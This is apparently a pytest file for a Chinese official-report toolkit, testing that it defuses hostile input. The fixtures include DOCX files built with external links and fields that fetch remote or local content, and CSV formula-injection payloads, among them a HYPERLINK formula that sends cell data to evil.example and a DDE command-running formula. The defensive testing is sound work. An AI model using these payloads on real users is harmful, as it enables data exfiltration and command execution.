"""Hostile and broken input, first half (issue 14): what gongwen writes, replaces and leaves.

Each test uses the independent review's input (made by a small generator where large)."""

from __future__ import annotations

import csv
import http.server
import io
import json
import os
import re
import shutil
import signal
import stat
import subprocess
import sys
import threading
import time
import zipfile
from pathlib import Path

import docx
import pytest
from conftest import REFERENCE_YAML

from toolkit.batch.runner import safe_name, unique_names

POSIX = pytest.mark.skipif(os.name != "posix", reason="FIFOs, modes and signals are POSIX")
ROW = {"事由": "2026年上半年重点", "问题": "人员不足。编制少。", "下一步": "充实力量。招录人员。"}


def _roster(path: Path, rows: list[dict]) -> Path:
    fields = list(dict.fromkeys(k for r in rows for k in r))
    with open(path, "w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=fields)
        writer.writeheader()
        writer.writerows(rows)
    return path


def _gongwen(*args: str, cwd: Path | None = None, **kw) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "toolkit", *args], capture_output=True, text=True,
                          cwd=cwd, timeout=kw.pop("timeout", 300), **kw)


# -- a DOCX that reaches out (point 2) ---------------------------------------------------

DRAWING = ('<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
 '<wp:extent cx="914400" cy="914400"/><wp:docPr id="901" name="p1"/>'
 '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
 '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="901" name="p1"/><pic:cNvPicPr/></pic:nvPicPr>'
 '<pic:blipFill><a:blip r:link="{rid}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
 '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic>'
 '</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>')
FIELD = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDE</w:instrText></w:r>'
 '<w:r><w:instrText xml:space="preserve">PICTURE "{url}" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
 '<w:r><w:t>域结果</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
SIMPLE = '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;{url}&quot; "><w:r><w:t>包含文本</w:t></w:r></w:fldSimple></w:p>'


def hostile(docx: bytes, base: str, local: str) -> bytes:
    """`docx` with pictures and fields that fetch from `base` (http://host:port) and `local`."""
    src = zipfile.ZipFile(io.BytesIO(docx))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "word/_rels/document.xml.rels":
                text = data.decode()
                extra = "".join(
                    f'<Relationship Id="{rid}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="{t}" TargetMode="External"/>'
                    for rid, t in (("rIdX1", base + "/linked.png"), ("rIdX2", local)))
                data = text.replace("</Relationships>", extra + "</Relationships>").encode()
            elif info.filename == "word/document.xml":
                text = data.decode()
                body = (DRAWING.format(rid="rIdX1") + DRAWING.format(rid="rIdX2")
                        + FIELD.format(url=base + "/field.png") + SIMPLE.format(url=base + "/text.docx"))
                text = text.replace("<w:body>", "<w:body>" + body, 1)
                data = text.encode()
            elif info.filename == "word/settings.xml":
                text = data.decode()
                text = re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdT1"/>', text, 1)
                if "xmlns:r=" not in text.split(">", 2)[1]:
                    text = text.replace("<w:settings ", '<w:settings xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ', 1)
                data = text.encode()
            dst.writestr(info, data)
        dst.writestr("word/_rels/settings.xml.rels",
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rIdT1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="{base}/template.dotx" TargetMode="External"/></Relationships>')
    return out.getvalue()


class _Recorder(http.server.BaseHTTPRequestHandler):
    hits: list = []

    def do_GET(self):  # noqa: N802 - the http.server API
        self.hits.append(self.path)
        self.send_response(404)
        self.end_headers()

    do_HEAD = do_GET

    def log_message(self, *args):
        pass


@pytest.fixture
def listener():
    """A web server on this machine that records every request it gets."""
    _Recorder.hits = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", _Recorder.hits
    server.shutdown()


def _hostile_docx(tmp_path: Path, base: str) -> Path:
    built = tmp_path / "base.docx"
    from conftest import run_cli

    assert run_cli("build", str(REFERENCE_YAML), "-o", str(built)).code == 0
    secret = tmp_path / "secret.png"
    secret.write_bytes(b"\x89PNG secret")
    path = tmp_path / "收到的文件.docx"
    path.write_bytes(hostile(built.read_bytes(), base, secret.resolve().as_uri()))
    return path


def test_isolated_copy_has_nothing_that_reaches_out(tmp_path):
    from toolkit.docx.isolate import isolate

    source = _hostile_docx(tmp_path, "http://192.0.2.1:8080")
    data, removed = isolate(source.read_bytes(), str(source))
    kinds = dict(removed)
    assert kinds == {"外链图片": 2, "INCLUDEPICTURE 域": 1, "INCLUDETEXT 域": 1, "附加模板": 1}
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        everything = b"".join(archive.read(n) for n in archive.namelist() if n.endswith(("xml", "rels")))
    assert b"192.0.2.1" not in everything and b"secret.png" not in everything
    assert b'TargetMode="External"' not in everything and b"attachedTemplate" not in everything
    assert "域结果".encode() in everything  # the field's shown text stays
    assert source.read_bytes() != data  # the received file itself is not touched


def test_preview_of_received_docx_fetches_nothing(tmp_path, cli, listener):
    from toolkit.render.preview import soffice

    if soffice() is None:
        pytest.skip("LibreOffice not installed")
    base, hits = listener
    source = _hostile_docx(tmp_path, base)
    before = source.read_bytes()
    result = cli("preview", str(source), "-o", str(tmp_path / "预览.pdf"))
    assert result.code == 0, result.err
    assert hits == []  # LibreOffice itself fetches /linked.png from such a file
    assert "去掉会访问外部的内容" in result.err and "外链图片 2 处" in result.err
    assert source.read_bytes() == before
    pdf = (tmp_path / "预览.pdf").read_bytes()
    assert b"secret" not in pdf


# -- formula injection in 质量报告.csv (point 1) ---------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "=cmd|' /C calc'!A0", "+1+1",
            "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def test_qa_csv_cells_never_start_a_formula(tmp_path, cli):
    rows = [{"单位": name, **ROW} for name in FORMULAS]
    rows.append({"单位": "+财政局", **ROW, "日期": "=1+1"})  # a failure: its 说明 quotes the value
    roster = _roster(tmp_path / "名单.csv", rows)
    result = cli("batch", str(roster), "-o", str(tmp_path), "--no-check", "-q", "-j", "1")
    assert result.code == 1, result.err
    raw = (tmp_path / "质量报告.csv").read_text(encoding="utf-8-sig")
    table = list(csv.reader(io.StringIO(raw, newline="")))
    cells = [cell for row in table for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    names = [row[0] for row in table[1:]]
    assert names[:len(FORMULAS)] == ["'" + f.strip() if f[0] in "\t\r" else "'" + f
                                     for f in FORMULAS]
    report = json.loads((tmp_path / "质量报告.json").read_text(encoding="utf-8"))
    assert report["部门"][0]["部门"] == FORMULAS[0]  # JSON is data, kept as written


# -- the batch journal after a hard kill (point 3) -----------------------------------------

def _department_texts(out: Path) -> dict[str, str]:
    return {p.stem: "\n".join(par.text for par in docx.Document(p).paragraphs)
            for p in out.glob("*.docx")}


@POSIX
def test_hard_kill_leaves_no_output_trusted_that_holds_another_runs_text(tmp_path):
    src = tmp_path / "部门"
    src.mkdir()
    text = REFERENCE_YAML.read_text(encoding="utf-8")

    def write_inputs(version: str) -> None:
        for n in range(24):
            (src / f"{n:02d}.yaml").write_text(
                text.replace("单位: X区人民政府办公室", f"单位: 第{n}局")
                    .replace("根据会议安排", f"根据{version}年会议安排", 1), encoding="utf-8")

    out = tmp_path / "out"
    write_inputs("2031")
    first = _gongwen("batch", str(src), "-o", str(out), "-j", "1", "-q", "--no-check")
    assert first.returncode == 0, first.stderr
    write_inputs("2032")
    journal = out / ".gongwen-batch.jsonl"
    lines_before = len(journal.read_text(encoding="utf-8").splitlines())
    proc = subprocess.Popen([sys.executable, "-m", "toolkit", "batch", str(src), "-o", str(out),
                             "-j", "1", "-q", "--no-check"], start_new_session=True,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.time() + 120
    while time.time() < deadline:  # wait until a few departments of the new run are recorded
        done = journal.read_text(encoding="utf-8").count('"done"') - lines_before
        if done >= 4:
            break
        time.sleep(0.02)
    os.killpg(proc.pid, signal.SIGKILL)  # as the OOM killer or a power cut would
    proc.wait()
    # A copy over an output (another department's text) is not taken as unchanged either: it is
    # not what gongwen wrote there, so it is reported, kept, and replaced only with --force.
    shutil.copy(out / "第0局.docx", out / "第1局.docx")
    again = _gongwen("batch", str(src), "-o", str(out), "-j", "1", "--no-check")
    assert again.returncode == 1, again.stderr
    assert "失败 第1局：第1局.docx 在 gongwen 生成后被修改过" in again.stderr
    assert "未变化 3 个" in again.stdout or "未变化 4 个" in again.stdout, again.stdout
    forced = _gongwen("batch", str(src), "-o", str(out), "-j", "1", "--no-check", "--force")
    assert forced.returncode == 0, forced.stderr
    texts = _department_texts(out)
    assert len(texts) == 24
    for name, body in texts.items():
        assert "2032年" in body and "2031年" not in body, name
        assert name in body, name  # each file holds its own department's report
    assert not [p for p in out.iterdir() if p.name.endswith(".tmp")]
    third = _gongwen("batch", str(src), "-o", str(out), "-j", "1", "--no-check")
    assert "未变化 24 个" in third.stdout, third.stdout + third.stderr


# -- special files (point 4) ---------------------------------------------------------------

@POSIX
def test_text_output_to_fifo_device_or_proc_link_is_refused(tmp_path, cli):
    fifo = tmp_path / "管道"
    os.mkfifo(fifo)
    link = tmp_path / "屏幕.txt"
    link.symlink_to("/proc/self/fd/1")
    for target in (str(fifo), str(link), "/dev/null"):
        result = cli("build", str(REFERENCE_YAML), "-o", str(tmp_path / "r.docx"),
                     "--text", target)
        assert result.code == 2, (target, result.err)
        assert "Traceback" not in result.err and "不是普通文件" in result.err
    pdf_fifo = tmp_path / "预览.pdf"
    os.mkfifo(pdf_fifo)
    result = cli("preview", str(REFERENCE_YAML), "-o", str(pdf_fifo))
    assert result.code == 2 and "Traceback" not in result.err
    assert stat.S_ISFIFO(os.stat(pdf_fifo).st_mode)
    assert stat.S_ISFIFO(os.stat(fifo).st_mode) and link.is_symlink()
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)
    assert not (tmp_path / "r.docx").exists()  # refused before anything was written
    shown = cli("build", str(REFERENCE_YAML), "-o", str(tmp_path / "r.docx"), "--text", "-")
    assert shown.code == 0 and "工作情况汇报" in shown.out
    assert not (tmp_path / "-").exists()
    plain = cli("build", str(REFERENCE_YAML), "-o", "-")
    assert plain.code == 0 and "工作情况汇报" in plain.out


@POSIX
def test_link_to_a_regular_file_is_written_through(tmp_path, cli):
    real = tmp_path / "真实.txt"
    real.write_text("旧", encoding="utf-8")
    link = tmp_path / "链接.txt"
    link.symlink_to(real)
    result = cli("build", str(REFERENCE_YAML), "-o", str(link))
    assert result.code == 0, result.err
    assert link.is_symlink() and "工作情况汇报" in real.read_text(encoding="utf-8")


# -- one bad department (point 7) ----------------------------------------------------------

def _with_bad_department(tmp_path: Path) -> Path:
    """乙局's group has 1,000 items under a “{数}” title: the composer's ValueError (numeral
    too large), the reviewer's template ValueError."""
    items = "\n".join(f"措施{n}。内容{n}。" for n in range(1000))
    rows = [{"单位": "甲局", **ROW}, {"单位": "乙局", **ROW},
            {"单位": "丙局", **ROW}, {"单位": "丁局", **ROW}]
    rows[1].update({"经验做法.机制.标题": "健全“{数}项机制”", "经验做法.机制.条目": items})
    return _roster(tmp_path / "名单.csv", rows)


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_a_department_that_crashes_fails_alone(tmp_path, cli, jobs):
    roster = _with_bad_department(tmp_path)
    out = tmp_path / "out"
    result = cli("batch", str(roster), "-o", str(out), "-j", jobs, "--no-check")
    assert result.code == 1, result.err
    assert "Traceback" not in result.err
    assert sorted(p.stem for p in out.glob("*.docx")) == sorted(["甲局", "丙局", "丁局"])
    rows = list(csv.DictReader(io.StringIO((out / "质量报告.csv").read_text(encoding="utf-8-sig"))))
    bad = [r for r in rows if r["部门"] == "乙局"][0]
    assert bad["状态"] == "失败" and "ValueError" in bad["说明"]
    assert (out / ".gongwen-batch.jsonl").read_text(encoding="utf-8").count('"done"') == 3


@POSIX
def test_a_worker_that_dies_fails_its_department_only(tmp_path, cli, monkeypatch):
    """A worker killed mid-department (the OOM killer, a crash) breaks the process pool: the
    department that kills it is found and reported, the others are built."""
    from toolkit.batch import runner

    real = runner.build_one

    def dying(job, name, options):
        if job.name == "乙局":
            os._exit(137)  # forked workers inherit this patch; the parent never runs it
        return real(job, name, options)

    monkeypatch.setattr(runner, "build_one", dying)
    rows = [{"单位": n, **ROW} for n in ("甲局", "乙局", "丙局", "丁局", "戊局", "己局")]
    roster = _roster(tmp_path / "名单.csv", rows)
    out = tmp_path / "out"
    result = cli("batch", str(roster), "-o", str(out), "-j", "2", "--no-check", "-q")
    assert result.code == 1, result.err
    assert sorted(p.stem for p in out.glob("*.docx")) == sorted(["甲局", "丙局", "丁局", "戊局", "己局"])
    report = json.loads((out / "质量报告.json").read_text(encoding="utf-8"))
    failed = [r for r in report["部门"] if r["状态"] == "失败"]
    assert [r["部门"] for r in failed] == ["乙局"] and "工作进程意外退出" in failed[0]["说明"]


def test_recursion_and_memory_errors_are_the_departments_own(tmp_path, cli, monkeypatch):
    from toolkit.draft import pipeline

    real = pipeline.draft_data
    crashes = {"乙局": RecursionError("maximum recursion depth exceeded"),
               "丙局": MemoryError(), "丁局": IndexError("list index out of range")}

    def draft(data, *args, **kwargs):
        if str(data.get("单位")) in crashes:
            raise crashes[str(data.get("单位"))]
        return real(data, *args, **kwargs)

    monkeypatch.setattr(pipeline, "draft_data", draft)
    rows = [{"单位": n, **ROW} for n in ("甲局", "乙局", "丙局", "丁局")]
    out = tmp_path / "out"
    result = cli("batch", str(_roster(tmp_path / "名单.csv", rows)), "-o", str(out), "-j", "1",
                 "--no-check", "-q")
    assert result.code == 1 and "Traceback" not in result.err
    why = {r["部门"]: r["说明"] for r in
           json.loads((out / "质量报告.json").read_text(encoding="utf-8"))["部门"]}
    assert why["甲局"] == "" and "嵌套过深" in why["乙局"] and "内存不足" in why["丙局"]
    assert "IndexError" in why["丁局"] and (out / "甲局.docx").is_file()


# -- files gongwen did not write (point 8) -------------------------------------------------

def test_batch_keeps_a_department_file_it_never_wrote(tmp_path, cli):
    roster = _roster(tmp_path / "名单.csv", [{"单位": "甲局", **ROW}, {"单位": "乙局", **ROW}])
    out = tmp_path / "out"
    out.mkdir()
    (out / "甲局.docx").write_bytes(b"the user's own file")
    result = cli("batch", str(roster), "-o", str(out), "--no-check", "-q")
    assert result.code == 1
    assert (out / "甲局.docx").read_bytes() == b"the user's own file"
    assert (out / "乙局.docx").is_file()
    report = json.loads((out / "质量报告.json").read_text(encoding="utf-8"))
    assert "不是 gongwen 生成的" in report["部门"][0]["说明"]
    again = cli("batch", str(roster), "-o", str(out), "--no-check", "-q")
    assert again.code == 1 and (out / "甲局.docx").read_bytes() == b"the user's own file"
    # Its own outputs are rebuilt freely when the input changes.
    roster = _roster(tmp_path / "名单.csv", [{"单位": "甲局", **ROW},
                                             {"单位": "乙局", **ROW, "事由": "全年工作"}])
    assert cli("batch", str(roster), "-o", str(out), "--no-check", "-q").code == 1
    assert "全年工作" in "".join(p.text for p in docx.Document(out / "乙局.docx").paragraphs)
    forced = cli("batch", str(roster), "-o", str(out), "--no-check", "-q", "--force")
    assert forced.code == 0 and zipfile.is_zipfile(out / "甲局.docx")


def test_build_and_batch_never_replace_their_inputs(tmp_path, cli):
    draft = tmp_path / "d.yaml"
    shutil.copy(REFERENCE_YAML, draft)
    before = draft.read_bytes()
    for args in (("--text", str(draft)), ("-o", str(draft)), ("--text", str(tmp_path / "d.docx")),
                 ("--text", str(draft), "--force")):
        result = cli("build", str(draft), *args)
        assert result.code == 2 and "Traceback" not in result.err, (args, result.err)
        assert draft.read_bytes() == before
    roster = _roster(tmp_path / "名单.csv", [{"单位": "甲局", **ROW}])
    kept = roster.read_bytes()
    result = cli("batch", str(roster), "-o", str(tmp_path / "out"), "--combined", str(roster))
    assert result.code == 2 and "输出文件就是输入文件" in result.err
    assert roster.read_bytes() == kept and not (tmp_path / "out").exists()


@POSIX
def test_read_only_target_needs_force(tmp_path, cli):
    target = tmp_path / "报告.docx"
    target.write_bytes(b"signed copy")
    target.chmod(0o444)
    result = cli("build", str(REFERENCE_YAML), "-o", str(target))
    assert result.code == 2 and "只读" in result.err
    assert target.read_bytes() == b"signed copy"
    forced = cli("build", str(REFERENCE_YAML), "-o", str(target), "--force")
    assert forced.code == 0, forced.err
    assert zipfile.is_zipfile(target) and stat.S_IMODE(target.stat().st_mode) == 0o444


# -- modes kept (point 9) ------------------------------------------------------------------

@POSIX
def test_fix_keeps_a_private_drafts_mode(tmp_path, cli):
    draft = tmp_path / "草稿.txt"
    draft.write_text("关于做好工作的报告\n\n一、总体情况\n我们做了工作,取得了成效.下一步继续努力!\n",
                     encoding="utf-8")
    draft.chmod(0o600)
    result = cli("check", str(draft), "--fix")
    assert "已修复" in result.err, result.err
    assert "取得了成效。" in draft.read_text(encoding="utf-8")
    assert stat.S_IMODE(draft.stat().st_mode) == 0o600
    built = tmp_path / "报告.docx"
    assert cli("build", str(REFERENCE_YAML), "-o", str(built)).code == 0
    built.chmod(0o640)
    assert cli("build", str(REFERENCE_YAML), "-o", str(built)).code == 0
    assert stat.S_IMODE(built.stat().st_mode) == 0o640


# -- names and temporary files (point 15) --------------------------------------------------

def test_names_are_safe_in_bytes_and_in_meaning():
    ext_b = "\U00020000" * 61  # 4 bytes each in UTF-8
    name = safe_name(ext_b)
    assert len(name.encode("utf-8")) <= 180 and len(name) <= 60
    assert safe_name("财政\u202e局") == "财政局"
    assert not re.search("[\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]",
                         safe_name("\u2067甲\u200b局\u2069\ufeff"))
    assert not safe_name("-rf").startswith("-")
    assert not safe_name("~$财政局").startswith("~")
    for reserved in ("COM¹", "COM²", "LPT³", "CONIN$", "CONOUT$", "conin$.txt", "COM0", "CON .x"):
        assert safe_name(reserved).startswith("_"), reserved
    names = unique_names([ext_b, ext_b])
    assert names[0] != names[1] and all(len((n + ".docx").encode()) < 200 for n in names)


def test_batch_writes_names_the_file_system_accepts(tmp_path, cli):
    rows = [{"单位": "\U00020000" * 61, **ROW}, {"单位": "-rf \u202egpj.exe", **ROW},
            {"单位": "~$名单", **ROW}, {"单位": "CONIN$", **ROW}]
    roster = _roster(tmp_path / "名单.csv", rows)
    result = cli("batch", str(roster), "-o", str(tmp_path / "out"), "--no-check", "-q")
    assert result.code == 0, result.err
    names = sorted(p.name for p in (tmp_path / "out").glob("*.docx"))
    assert len(names) == 4
    assert not [n for n in names if n.startswith(("-", "~", ".")) or "\u202e" in n]


@POSIX
def test_temporary_files_of_a_killed_build_are_cleaned(tmp_path, cli):
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    stale = tmp_path / f".报告.docx.{dead.pid}.k2j3h4g5.tmp"
    stale.write_bytes(b"half")
    legacy = tmp_path / ".报告.docx.a8b7c6d5.tmp"
    legacy.write_bytes(b"half")
    os.utime(legacy, (time.time() - 7200, time.time() - 7200))
    busy = tmp_path / f".报告.docx.{os.getppid()}.zzzzzzzz.tmp"  # a process still writing
    busy.write_bytes(b"in progress")
    other = tmp_path / ".cache.abcdefgh.tmp"  # another program's: not an output's name
    other.write_bytes(b"theirs")
    os.utime(other, (time.time() - 7200, time.time() - 7200))
    assert cli("build", str(REFERENCE_YAML), "-o", str(tmp_path / "报告.docx")).code == 0
    assert not stale.exists() and not legacy.exists() and busy.exists() and other.exists()


# -- preview leftovers and its time limit (point 14) ---------------------------------------

def _fake_office(folder: Path, record: Path) -> dict:
    """An environment whose `soffice` starts a child and never finishes (LibreOffice stuck)."""
    folder.mkdir()
    record.mkdir()
    script = folder / "soffice"
    script.write_text("#!/bin/sh\n"
                      'touch "${TMPDIR:-/tmp}/lu-stand-in.tmp"\n'  # as soffice.bin does
                      f'sleep 300 & echo $! > "{record}/child"\n'
                      f'echo $$ > "{record}/parent"\n'
                      "wait\n")
    script.chmod(0o755)
    temp = folder.parent / "tmp"
    temp.mkdir()
    return {**os.environ, "PATH": f"{folder}{os.pathsep}{os.environ.get('PATH', '')}",
            "TMPDIR": str(temp)}


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (FileNotFoundError, ProcessLookupError, IndexError):
        return False
    return state != "Z"


@POSIX
@pytest.mark.parametrize("sig", ["SIGTERM", "SIGHUP"])
def test_terminated_preview_leaves_no_converter_or_folder(tmp_path, sig):
    if not Path("/proc/self/stat").exists():
        pytest.skip("needs /proc")
    record = tmp_path / "record"
    env = _fake_office(tmp_path / "bin", record)
    proc = subprocess.Popen([sys.executable, "-m", "toolkit", "preview", str(REFERENCE_YAML),
                             "-o", str(tmp_path / "p.pdf")], env=env, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True)
    deadline = time.time() + 60
    while time.time() < deadline and not (record / "child").exists():
        time.sleep(0.05)
    assert (record / "child").exists(), proc.stderr.read() if proc.poll() is not None else ""
    time.sleep(0.2)
    proc.send_signal(getattr(signal, sig))  # to gongwen alone, as `kill PID` does
    _, err = proc.communicate(timeout=30)
    assert proc.returncode == 128 + getattr(signal, sig), err
    assert "Traceback" not in err
    for name in ("parent", "child"):
        pid = int((record / name).read_text())
        for _ in range(50):
            if not _alive(pid):
                break
            time.sleep(0.1)
        assert not _alive(pid), f"{name} {pid} survived"
    assert not list((tmp_path / "tmp").iterdir())  # neither gongwen's folder nor LibreOffice's
    assert not (tmp_path / "p.pdf").exists()


def _many_paragraphs(path: Path, count: int) -> Path:
    """The reviewer's large DOCX: `count` short paragraphs."""
    from conftest import run_cli

    run_cli("build", str(REFERENCE_YAML), "-o", str(path))
    with zipfile.ZipFile(path) as archive:
        members = [(i, archive.read(i)) for i in archive.infolist()]
    body = "".join(f"<w:p><w:r><w:t>第{n}段内容。</w:t></w:r></w:p>" for n in range(count))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, data in members:
            if info.filename == "word/document.xml":
                data = data.decode().replace("<w:body>", "<w:body>" + body, 1).encode()
            archive.writestr(info, data)
    return path


@POSIX
def test_time_limit_covers_the_work_before_conversion(tmp_path):
    big = _many_paragraphs(tmp_path / "大文件.docx", 200_000)
    env = _fake_office(tmp_path / "bin", tmp_path / "record")
    start = time.monotonic()
    result = subprocess.run([sys.executable, "-m", "toolkit", "preview", str(big), "-o",
                             str(tmp_path / "p.pdf"), "--timeout", "2"], env=env,
                            capture_output=True, text=True, timeout=300)
    took = time.monotonic() - start
    assert result.returncode == 2, result.stderr
    assert "2 秒内没有完成" in result.stderr and "Traceback" not in result.stderr
    assert took < 15, took
    assert not (tmp_path / "record" / "parent").exists()  # stopped before LibreOffice started
